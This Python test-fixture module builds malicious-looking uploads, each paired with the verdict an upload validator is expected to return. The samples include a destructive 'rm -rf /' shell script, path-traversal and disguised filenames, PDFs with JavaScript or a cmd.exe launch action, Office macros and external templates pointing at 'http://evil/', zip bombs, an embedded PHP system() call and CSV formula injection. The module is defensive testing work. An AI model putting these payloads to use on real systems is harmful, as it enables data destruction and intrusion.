"""Files that mean harm, or look as if: each with the verdict it must get and words of its sentence.

All are made here, byte by byte; none of them does anything.
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Iterator
from dataclasses import dataclass

from dashboard.rules.upload_policy import LARGEST_UPLOAD, RefusalKind

TYPE = RefusalKind.TYPE_NOT_ACCEPTED
MISMATCH = RefusalKind.CONTENT_MISMATCH
DANGEROUS = RefusalKind.DANGEROUS

MADE_AT = (2026, 1, 1, 0, 0, 0)
PDF_END = b"trailer\n<< /Root 1 0 R >>\n%%EOF\n"
PDF = b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\n" + PDF_END
OLE_SIGN = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600
MAIL = b"From: rob@smith.example\r\nTo: tom@x.example\r\nSubject: Hi\r\n\r\nText\r\n"
DOS_PROGRAM = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 64
LINUX_PROGRAM = b"\x7fELF\x02\x01\x01" + b"\x00" * 64


@dataclass(frozen=True, slots=True)
class HostileFile:
    """A file, and what must be said of it; `verdict` is None for one that only looks bad."""

    story: str
    name: str
    content: bytes
    verdict: RefusalKind | None
    words: str = ""


def zipped(*members: tuple[str, bytes], packed: bool = True) -> bytes:
    """Return a ZIP archive of these members."""
    buffer = io.BytesIO()
    method = zipfile.ZIP_DEFLATED if packed else zipfile.ZIP_STORED
    with zipfile.ZipFile(buffer, "w", method) as made:
        for name, content in members:
            entry = zipfile.ZipInfo(name, MADE_AT)
            entry.compress_type = method
            made.writestr(entry, content)
    return buffer.getvalue()


def office(part: str, *more: tuple[str, bytes], types: bytes = b"<Types/>") -> bytes:
    """Return an Office document with its main part and others."""
    return zipped(("[Content_Types].xml", types), (part, b"<x/>"), *more)


def open_document(kind: str, *more: tuple[str, bytes]) -> bytes:
    """Return an OpenDocument of this kind."""
    mime_type = f"application/vnd.oasis.opendocument.{kind}".encode()
    return zipped(("mimetype", mime_type), ("content.xml", b"<x/>"), *more, packed=False)


def ole(*streams: str) -> bytes:
    """Return an old Office file with streams of these names."""
    return OLE_SIGN + b"\x00\x00".join(name.encode("utf-16-le") for name in streams) + b"\x00" * 64


def pdf(*objects: bytes) -> bytes:
    """Return a PDF with these objects."""
    body = b"".join(
        b"%d 0 obj\n%s\nendobj\n" % (number, each) for number, each in enumerate(objects, start=2)
    )
    return b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\n" + body + PDF_END


def packed_objects(*objects: bytes) -> bytes:
    """Return an object stream, in which a plain search sees nothing."""
    packed = zlib.compress(b" ".join(objects))
    head = b"<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>" % len(packed)
    return head + b"\nstream\n" + packed + b"\nendstream"


def png(width: int = 1, height: int = 1, *, after: bytes = b"") -> bytes:
    """Return a PNG picture that says it has this size."""
    body = struct.pack(">II", width, height) + b"\x08\x02\x00\x00\x00"
    check = struct.pack(">I", zlib.crc32(b"IHDR" + body))
    return b"\x89PNG\r\n\x1a\n\x00\x00\x00\x0dIHDR" + body + check + after


def gif(width: int = 1, height: int = 1, *, after: bytes = b"") -> bytes:
    """Return a GIF picture."""
    return b"GIF89a" + struct.pack("<HH", width, height) + b"\x00\x00\x00" + after + b";"


def jpeg(width: int = 1, height: int = 1, *, after: bytes = b"") -> bytes:
    """Return a JPEG picture."""
    frame = b"\xff\xc0\x00\x11\x08" + struct.pack(">HH", height, width) + b"\x03" + b"\x00" * 9
    return b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00" + frame + after


def bmp(width: int = 1, height: int = 1, *, after: bytes = b"") -> bytes:
    """Return a BMP picture."""
    head = struct.pack("<IIIIii", 60, 0, 54, 40, width, height)
    return b"BM" + head + b"\x01\x00\x18\x00" + b"\x00" * 24 + after


def tiff(width: int = 1, height: int = 1, *, after: bytes = b"") -> bytes:
    """Return a TIFF picture."""
    entries = struct.pack("<HHII", 256, 4, 1, width) + struct.pack("<HHII", 257, 4, 1, height)
    return b"II*\x00\x08\x00\x00\x00\x02\x00" + entries + b"\x00\x00\x00\x00" + after


def every() -> list[HostileFile]:
    """Return all of them."""
    makers = (_disguises, _types, _names, _sizes, _pdfs, _documents, _archives, _pictures, _texts)
    return [file for maker in makers for file in maker()]


# -- what it says it is ----------------------------------------------------------------------------

_TRUE = {
    "pdf": (PDF, "a PDF"),
    "png": (png(), "a PNG picture"),
    "jpg": (jpeg(), "a JPEG picture"),
    "gif": (gif(), "a GIF picture"),
    "tif": (tiff(), "a TIFF picture"),
    "bmp": (bmp(), "a BMP picture"),
    "rtf": (b"{\\rtf1 hello}", "a rich text file"),
    "7z": (b"7z\xbc\xaf\x27\x1c\x00\x04", "a 7z archive"),
    "rar": (b"Rar!\x1a\x07\x01\x00", "a RAR archive"),
    "docx": (office("word/document.xml"), "a Word document"),
    "xlsx": (office("xl/workbook.xml"), "an Excel workbook"),
    "doc": (ole("WordDocument"), "an old Word document"),
    "msg": (ole("__properties_version1.0"), "an Outlook message"),
    "odt": (open_document("text"), "an OpenDocument text"),
    "txt": (b"hello\n", "plain text"),
    "eml": (MAIL, "an email message"),
    "a program": (DOS_PROGRAM, "is "),
    "a Linux program": (LINUX_PROGRAM, "is "),
    "a web page": (b"<!doctype html><script>alert(1)</script>", "plain text"),
    "a shell script": (b"#!/bin/sh\nrm -rf /\n", "plain text"),
    "a drawing with a script": (b"<svg onload='alert(1)'/>", "plain text"),
    "a class file": (b"\xca\xfe\xba\xbe\x00\x00\x00\x34" + b"\x00" * 20, "is "),
}
_CALLED = ("pdf", "docx", "jpg")
_TEXT_AS_TEXT = ("txt", "csv")


def _disguises() -> Iterator[HostileFile]:
    for what, (content, words) in _TRUE.items():
        for called in _CALLED:
            if called != what:
                story = f"{what} called .{called}"
                yield HostileFile(story, f"statement.{called}", content, MISMATCH, words)
    for called in _TEXT_AS_TEXT:
        yield HostileFile(
            f"a program called .{called}", f"a.{called}", DOS_PROGRAM, MISMATCH, "is "
        )


def _types() -> Iterator[HostileFile]:
    for ending in (
        *("exe", "js", "html", "svg", "xml", "docm", "xlsm", "pptm", "dotm", "iso", "lnk", "bat"),
        *("heic", "webp", "php", "jar"),
    ):
        words = f"Xero does not take .{ending} files."
        yield HostileFile(f"a .{ending} file", f"a.{ending}", PDF, TYPE, words)


def _names() -> Iterator[HostileFile]:
    bad = {
        "two endings": ("invoice.pdf.exe", "does not take .exe"),
        "written backwards": ("invoice\u202efdp.exe", "does not take .exe"),
        "no ending": ("../../etc/passwd", "no ending"),
        "a dot at the end": ("invoice.pdf.", "no ending"),
        "a NUL before the true ending": ("invoice.pdf\x00.exe", "does not take .exe"),
        "a letter that only looks like one": ("invoice.р\u0501f", "does not take"),
        "a stream of another name": ("invoice.exe::$DATA", "does not take"),
    }
    for story, (name, words) in bad.items():
        yield HostileFile(f"named with {story}", name, PDF, TYPE, words)
    good = {
        "a path": "..\\..\\windows\\invoice.pdf",
        "a name that Windows keeps": "CON.pdf",
        "line ends": "invoice\r\nSet-Cookie: a=b.pdf",
        "300 letters": "i" * 300 + ".pdf",
        "emoji": "invoice \U0001f4a9.pdf",
        "marks that combine": "i" + "\u0301" * 40 + ".pdf",
        "markup": "<script>alert(1)</script>.pdf",
        "a quote": "a';drop table clients;--.pdf",
    }
    for story, name in good.items():
        yield HostileFile(f"named with {story}", name, PDF, None)


def _sizes() -> Iterator[HostileFile]:
    yield HostileFile("nothing in it", "a.pdf", b"", RefusalKind.EMPTY, "is empty")
    yield HostileFile("as large as may be", "a.pdf", PDF.ljust(LARGEST_UPLOAD), None)
    large = PDF.ljust(LARGEST_UPLOAD + 1)
    yield HostileFile("a byte too large", "a.pdf", large, RefusalKind.TOO_LARGE, "takes up to")


# -- what hides in it ------------------------------------------------------------------------------

_ACTION = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"


def _pdfs() -> Iterator[HostileFile]:
    embedded = b"<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream"
    locked = b"trailer\n<< /Root 1 0 R /Encrypt 9 0 R >>\n"
    page = b"<< /Length 30 >>\nstream\nBT (JavaScript and Launch) Tj ET\nendstream"
    bomb = packed_objects(b"\x00" * 30_000_000)
    for story, content, words in (
        ("a script", pdf(_ACTION), "holds a script"),
        ("a script at opening", pdf(b"<< /OpenAction " + _ACTION + b" >>"), "holds a script"),
        ("a script, its name in numbers", pdf(b"<< /S /J#61vaScript >>"), "holds a script"),
        ("a script, all in numbers", pdf(b"<< /S /#4aavaS#63ript >>"), "holds a script"),
        ("a script in packed objects", pdf(packed_objects(_ACTION)), "holds a script"),
        ("a program to launch", pdf(b"<< /S /Launch /F (cmd.exe) >>"), "holds a script"),
        ("a film with a script", pdf(b"<< /Subtype /RichMedia >>"), "holds a script"),
        ("a file embedded", pdf(embedded), "Another file is hidden"),
        ("a list of embedded files", pdf(b"<< /EmbeddedFiles 5 0 R >>"), "Another file is hidden"),
        ("an embedded file, packed", pdf(packed_objects(b"/EmbeddedFile")), "Another file"),
        ("a lock", PDF + locked, "is protected"),
        ("a lock, its name in numbers", PDF + locked.replace(b"Enc", b"En#63"), "is protected"),
        ("a bomb of objects", pdf(bomb), "far more than it seems"),
        ("an archive at its end", PDF + zipped(("a.txt", b"hi")), "two files in one"),
        ("a script before its beginning", b"/*" + PDF + b"*/alert(1)", "two files in one"),
        ("a web page before its beginning", b"<html><!--" + PDF + b"-->", "two files in one"),
        ("a picture before its beginning", b"BM" + b"\x00" * 60 + PDF, "two files in one"),
    ):
        yield HostileFile(f"a PDF with {story}", "a.pdf", content, DANGEROUS, words)
    for story, content in (
        ("white space before its beginning", b"\r\n \n" + PDF),
        ("a byte order mark before its beginning", b"\xef\xbb\xbf" + PDF),
        ("words about scripts", pdf(page)),
        ("packed objects", pdf(packed_objects(b"<< /Type /Page >>"))),
        ("damaged packed objects", pdf(b"<< /Type /ObjStm >>\nstream\nxx\nendstream")),
    ):
        yield HostileFile(f"a PDF with {story}", "a.pdf", content, None)


def _documents() -> Iterator[HostileFile]:
    relation = '<Relationship Id="r1" Type="http://x/relationships/{}" Target="http://evil/"'
    far = relation + ' TargetMode="External"/>'
    macro_types = b'<Types ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>'
    for story, ending, content, words in (
        ("macros", "docx", office("word/document.xml", ("word/vbaProject.bin", b"x")), "macros"),
        ("macros", "xlsx", office("xl/workbook.xml", ("xl/vbaProject.bin", b"x")), "macros"),
        ("macros", "pptx", office("ppt/presentation.xml", ("ppt/VBAPROJECT.BIN", b"x")), "macros"),
        ("a type with macros", "docx", office("word/document.xml", types=macro_types), "macros"),
        (
            "a control",
            "docx",
            office("word/document.xml", ("word/activeX/activeX1.bin", b"x")),
            "macros",
        ),
        (
            "a template from elsewhere",
            "docx",
            office(
                "word/document.xml",
                ("word/_rels/settings.xml.rels", far.format("attachedTemplate").encode()),
            ),
            "fetches something",
        ),
        (
            "an object from elsewhere",
            "xlsx",
            office("xl/workbook.xml", ("xl/_rels/a.rels", far.format("oleObject").encode())),
            "fetches something",
        ),
        ("macros", "doc", ole("WordDocument", "Macros", "_VBA_PROJECT"), "macros"),
        ("macros", "xls", ole("Workbook", "_VBA_PROJECT_CUR"), "macros"),
        ("macros", "ppt", ole("PowerPoint Document", "_VBA_PROJECT"), "macros"),
        ("macros", "odt", open_document("text", ("Basic/Standard/a.xml", b"x")), "macros"),
        ("scripts", "ods", open_document("spreadsheet", ("Scripts/a.py", b"x")), "macros"),
        (
            "a lock",
            "odt",
            open_document("text", ("META-INF/manifest.xml", b"<manifest:encryption-data/>")),
            "locked with a password",
        ),
        ("an object inside", "rtf", b"{\\rtf1{\\object\\objdata 0105}}", "Another file is hidden"),
        ("a damaged part", "docx", _damaged(office("word/document.xml")), "damaged"),
    ):
        yield HostileFile(f"a .{ending} with {story}", f"a.{ending}", content, DANGEROUS, words)
    lock = ole("EncryptedPackage")
    yield HostileFile("a .xlsx with a lock", "a.xlsx", lock, MISMATCH, "locked with a password")
    links = office("word/document.xml", ("word/_rels/a.rels", far.format("hyperlink").encode()))
    yield HostileFile("a .docx with a link to a web page", "a.docx", links, None)
    near = office("word/document.xml", ("word/_rels/a.rels", relation.format("image").encode()))
    yield HostileFile("a .docx with a picture of its own", "a.docx", near, None)


def _archives() -> Iterator[HostileFile]:
    note, zeros = ("note.txt", b"hello"), ("zeros.txt", b"\x00" * 20_000_000)
    inner = zipped(zeros)
    deep = zipped(("c.zip", zipped(("b.zip", zipped(("a.zip", zipped(note)))))))
    macros = office("word/document.xml", ("word/vbaProject.bin", b"x"))
    for story, content, words in (
        ("zeros that pack to nothing", inner, "far more"),
        ("an archive of zeros in it", zipped(("in.zip", inner), packed=False), "far more"),
        ("archives in archives", deep, "far more"),
        ("a thousand and one entries", _many(1_001), "far more"),
        ("entries over one another", _overlapping(), "far more"),
        ("an entry that lies about its size", _lying(), "far more"),
        ("an entry beyond its folder", zipped(("../../etc/passwd", b"x")), "outside its own"),
        ("an entry from the root", zipped(("/etc/passwd", b"x")), "outside its own"),
        ("an entry on a drive", zipped(("C:/Windows/a.txt", b"x")), "outside its own"),
        ("backslashes beyond its folder", zipped(("..\\a.txt", b"x")), "outside its own"),
        ("a lock", _locked(zipped(note)), "locked with a password"),
        ("a program", zipped(("setup.exe", DOS_PROGRAM)), "holds a program"),
        ("a program with a dot behind it", zipped(("setup.exe. ", b"MZ")), "holds a program"),
        ("a script", zipped(("invoice.pdf.js", b"x")), "holds a program"),
        ("a shortcut", zipped(("invoice.LNK", b"x")), "holds a program"),
        (
            "a program in an archive in it",
            zipped(("a.zip", zipped(("a.scr", b"x")))),
            "holds a program",
        ),
        ("a document with macros", zipped(("a.docx", macros)), "macros"),
        ("a damaged entry", _damaged(zipped(("note.txt", b"hello " * 50))), "damaged"),
    ):
        yield HostileFile(f"an archive with {story}", "a.zip", content, DANGEROUS, words)
    cut = zipped(note)[:-10]
    yield HostileFile("an archive cut short", "a.zip", cut, MISMATCH, "a damaged ZIP archive")
    for story, content in (
        ("a letter", zipped(note)),
        ("a thousand entries", _many(1_000)),
        ("a document", zipped(("a.docx", office("word/document.xml")))),
        ("a page that packs well", zipped(("a.csv", b"0,0,0\n" * 100_000))),
        ("nothing", zipped()),
    ):
        yield HostileFile(f"an archive with {story}", "a.zip", content, None)


def _pictures() -> Iterator[HostileFile]:
    script, tail = b"<script>alert(1)</script>", zipped(("a.txt", b"hi"))
    makers = {"png": png, "gif": gif, "jpg": jpeg, "bmp": bmp, "tif": tiff}
    for ending, make in makers.items():
        flood = make(60_000, 60_000)
        yield HostileFile(f"a flood of pixels .{ending}", f"a.{ending}", flood, DANGEROUS, "pixels")
        for story, after in (
            ("a script", script),
            ("a server's script", b"<?php system('x'); ?>"),
            ("an archive", tail),
        ):
            yield HostileFile(
                f"a .{ending} with {story}",
                f"a.{ending}",
                make(after=after),
                DANGEROUS,
                "two files",
            )
        yield HostileFile(f"a large .{ending}", f"a.{ending}", make(12_000, 9_000), None)
    upside_down = bmp(60_000, -60_000)
    yield HostileFile("a flood upside down", "a.bmp", upside_down, DANGEROUS, "pixels")


def _texts() -> Iterator[HostileFile]:
    yield HostileFile("a text with a NUL", "a.txt", b"abc\x00def", MISMATCH, "is ")
    yield HostileFile("half a wide letter", "a.csv", b"\xff\xfea", MISMATCH, "is ")
    yield HostileFile("a terminal's commands", "a.txt", b"a\x1b]0;x\x07b", MISMATCH, "is ")
    yield HostileFile("a formula in a list", "a.csv", b"=cmd|'/c calc'!A1,1\n", None)


# -- archives that no honest program makes ---------------------------------------------------------


def _many(count: int) -> bytes:
    return zipped(*((f"{number}.txt", b"") for number in range(count)), packed=False)


def _damaged(archive: bytes) -> bytes:
    """Return the archive with another checksum for its last entry than its bytes have."""
    at = archive.rindex(b"PK\x01\x02") + 16
    return archive[:at] + b"\x00\x01\x02\x03" + archive[at + 4 :]


def _locked(archive: bytes) -> bytes:
    for sign, flags in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = archive.index(sign) + flags
        archive = archive[:at] + b"\x01\x00" + archive[at + 2 :]
    return archive


def _overlapping() -> bytes:
    """Return an archive whose second entry points into the first."""
    archive = zipped(("a.txt", b"x" * 500), ("b.txt", b"x" * 500), packed=False)
    at = archive.rindex(b"PK\x01\x02") + 42
    return archive[:at] + struct.pack("<I", 0) + archive[at + 4 :]


def _lying() -> bytes:
    """Return an archive with an entry that says it is far larger than it may be."""
    archive = zipped(("a.txt", b"hello"))
    at = archive.rindex(b"PK\x01\x02") + 24
    return archive[:at] + struct.pack("<I", 2_000_000_000) + archive[at + 4 :]
